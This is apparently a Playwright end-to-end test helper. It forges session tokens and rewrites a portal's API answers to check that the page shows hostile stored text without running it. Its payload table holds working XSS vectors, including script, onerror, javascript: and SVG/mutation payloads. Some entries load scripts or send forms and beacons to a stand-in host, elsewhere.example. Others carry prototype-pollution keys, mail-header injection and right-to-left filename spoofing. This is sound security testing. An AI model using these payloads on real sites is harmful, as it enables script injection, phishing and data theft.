/** Puts hostile texts between the provider and the page: into every answer, and into the claims of the token. */
import type { Page } from '@playwright/test';
import { askProvider, type DemoUser, expect, keepToken } from '../portal.ts';
import type { CrawlIds } from './routes.ts';

/** Signs in with claims full of hostile texts; from then on every answer is hostile too. */
export async function signInToHostile(page: Page, user: DemoUser, hostility: Hostility): Promise<void> {
  await keepToken(page, user);
  const token = await page.evaluate(() => sessionStorage.getItem('token') ?? '');
  const hostile = hostileToken(token, hostility);
  await page.route('**/api/**', async (route) => {
    // The provider would refuse a token that it has not signed.
    const headers = { ...route.request().headers(), authorization: `Bearer ${token}` };
    const response = await route.fetch({ headers });
    const answer: unknown = await response.json();
    await route.fulfill({ response, json: hostileJson(answer, hostility) });
  });
  await page.evaluate((value) => sessionStorage.setItem('token', value), hostile);
}

/** What a person is and may see stays, whatever else they are called. */
function hostileToken(token: string, { next }: Hostility): string {
  const claims: unknown = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());
  if (typeof claims !== 'object' || claims === null) throw new TypeError('The token has no claims.');
  const roles = 'roles' in claims ? [claims.roles].flat() : [];
  const scopes = 'scopes' in claims ? [claims.scopes].flat() : [];
  const own = {
    ...claims,
    name: next(),
    em: [next(), next()],
    ph: [next(), next()],
    roles: [...roles, next()],
    scopes: [...scopes, next()],
  };
  return `e30.${Buffer.from(JSON.stringify(own)).toString('base64url')}.c2ln`;
}

interface EventRow {
  readonly incident: { readonly id: number; readonly alarmCount: number };
  readonly location: { readonly id: number };
}

/** What the person can open: an event with pictures and clips, its site, a schedule. Asked before the answers turn hostile. */
export async function idsToCrawl(page: Page, user: DemoUser): Promise<CrawlIds> {
  await keepToken(page, user);
  const events = await askProvider<{ value: EventRow[] }>(page, '/api/Event/events/location/0', {
    orderby: 'incident.alarmCount desc',
    skip: 0,
    take: 1,
    count: true,
  });
  const schedules = await askProvider<{ value: { id: number }[] }>(page, '/api/Schedule/schedules', {});
  const [event, schedule] = [events.value[0], schedules.value[0]];
  if (event === undefined || schedule === undefined) throw new Error(`${user} has nothing to look at.`);
  expect([event.incident.id, event.location.id, schedule.id]).not.toContain(undefined);
  return { event: event.incident.id, location: event.location.id, schedule: schedule.id };
}

// Its answers: the shape is kept, the texts are another's.

interface Hostility {
  /** The next text to put in. */
  readonly next: () => string;
  /** Keeps what a page needs to show the rest: instants, media addresses, labels of search groups. */
  readonly keepsFrame: boolean;
}

const INSTANT = /^\d{4}-\d\d-\d\dT[\d:.]+(?:Z|[+-]\d\d:\d\d)$/;
const FRAME = new Set(['url', 'groupLabel', 'recordingFormat', 'scheduledItemType', 'scheduledItemInterval']);

/** @param key name of the field that holds the value */
function hostileJson(value: unknown, hostility: Hostility, key = ''): unknown {
  if (typeof value === 'string') return hostileText(value, hostility, key);
  if (Array.isArray(value)) return value.map((item) => hostileJson(item, hostility, key));
  if (typeof value !== 'object' || value === null) return value;
  const fields = Object.entries(value).map(([name, field]) => [name, hostileJson(field, hostility, name)]);
  // Own fields with names that an object inherits; parsed again they are own fields still.
  return Object.fromEntries([
    ...fields,
    ['__proto__', { polluted: true }],
    ['constructor', { prototype: { polluted: true } }],
  ]);
}

function hostileText(text: string, hostility: Hostility, key: string): string {
  if (!hostility.keepsFrame) return hostility.next();
  // A search result's address is the one link that a provider gives.
  const isSearchResult = key === 'url' && !text.includes('/media/');
  if (INSTANT.test(text) || (FRAME.has(key) && !isSearchResult)) return text;
  // Detections are JSON inside of JSON.
  if (key === 'data' && text.startsWith('[')) return JSON.stringify(hostileJson(JSON.parse(text), hostility));
  return hostility.next();
}

// Texts that a provider's database may hold and that must stay texts: run, any of them would set `window.hacked`.

export interface Payload {
  readonly name: string;
  readonly text: string;
}

const ELSEWHERE = 'https://elsewhere.example';
const RUN = 'window.hacked=1';

const table = {
  'script element': `<script>${RUN}</script>`,
  'script element in odd case': `<ScRiPt >${RUN}</sCrIpT >`,
  'script from elsewhere': `<script src="${ELSEWHERE}/run.js"></script>`,
  'module script': `<script type="module">import "${ELSEWHERE}/run.js"</script>`,
  'nested script element': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'closing a script block': `</script><script>${RUN}</script>`,
  'closing a title': `</title><script>${RUN}</script>`,
  'closing a textarea': `</textarea><img src=x onerror=${RUN}>`,
  'closing a style': `</style><img src=x onerror=${RUN}>`,
  'closing a comment': `--><img src=x onerror=${RUN}><!--`,
  'image with onerror': `<img src=x onerror="${RUN}">`,
  'image without quotes or spaces': `<img/src=x/onerror=${RUN}>`,
  'image that is never closed': `<img src=x onerror=${RUN}//`,
  'attribute with double quotes': `"><img src=x onerror="${RUN}">`,
  'attribute with single quotes': `'><img src=x onerror='${RUN}'>`,
  'attribute that takes focus': `" autofocus onfocus="${RUN}" x="`,
  'backtick attribute': `\`onmouseover=${RUN} x=\``,
  'svg with onload': `<svg onload="${RUN}"></svg>`,
  'svg with a script': `<svg><script>${RUN}</script></svg>`,
  'svg animation of a link': `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  'svg foreignObject': `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  'math with a link': `<math><mtext><a href="javascript:${RUN}">x</a></mtext></math>`,
  'mutating markup': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'frame with a document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'frame with a script address': `<iframe src="javascript:parent.${RUN}"></iframe>`,
  'object with data': `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  'base of elsewhere': `<base href="${ELSEWHERE}/">`,
  'refresh to elsewhere': `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  'form of elsewhere': `<form action="${ELSEWHERE}"><button>Log In</button></form>`,
  'details that open': `<details open ontoggle="${RUN}">x</details>`,
  'video source with onerror': `<video><source onerror="${RUN}"></video>`,
  'script address': `javascript:${RUN}`,
  'script address with a line break': `java\nscript:${RUN}`,
  'script address with a tab and a control': `\u0001java\tscript:${RUN}`,
  'script address behind a comment': `javascript://elsewhere.example/%0a${RUN}`,
  'data address': `data:text/html,<script>${RUN}</script>`,
  'address of elsewhere': `${ELSEWHERE}/login`,
  'address without a scheme': '//elsewhere.example/login',
  'address with backslashes': '/\\elsewhere.example\\login',
  'template of braces': `{{constructor.constructor('${RUN}')()}}`,
  'template literal': `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  'name of a prototype': '__proto__',
  'name of a constructor': 'constructor',
  'name of a method': 'toString',
  'style that covers the page': `<style>*{position:fixed!important;background:url(${ELSEWHERE}/seen)}</style>`,
  'declaration of style': `red;background:url(${ELSEWHERE}/seen);position:fixed;inset:0`,
  'JSON that ends early': `"}],"value":[{"id":1}],"x":"`,
  'line breaks for a mail': `a@b.example\r\nBcc: c@elsewhere.example\r\n\r\nBody`,
  'recipients for a mail': 'a@b.example?bcc=c@elsewhere.example&body=x,d@elsewhere.example',
  'commands for a phone': `+1 555 0100;phone-context=elsewhere.example?x=${RUN}\r\nATH`,
  'writing from right to left': '\u202Etxt.exe\u2066\u202Egnp.elif\u2069 \u200F\u061C',
  'invisible letters': '\u200B\u200C\u200D\u2060\uFEFF\u00AD',
  'null bytes': `a\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  'half of a pair': '\uD800 x \uDFFF',
  'letters with many marks': `Z${'\u0335\u0322\u0347'.repeat(120)}`,
  'very long word': 'x'.repeat(4_000),
  'very long markup': `<b ${'x'.repeat(5_000)}>${'<i>'.repeat(1_000)}`,
} as const;

export const payloads: readonly Payload[] = Object.entries(table).map(([name, text]) => ({ name, text }));

/** A few of different kinds, for a short look. */
export const chosenPayloads: readonly Payload[] = payloads.filter(({ name }) =>
  [
    'image with onerror',
    'closing a script block',
    'script address',
    'name of a prototype',
    'line breaks for a mail',
    'very long word',
  ].includes(name),
);
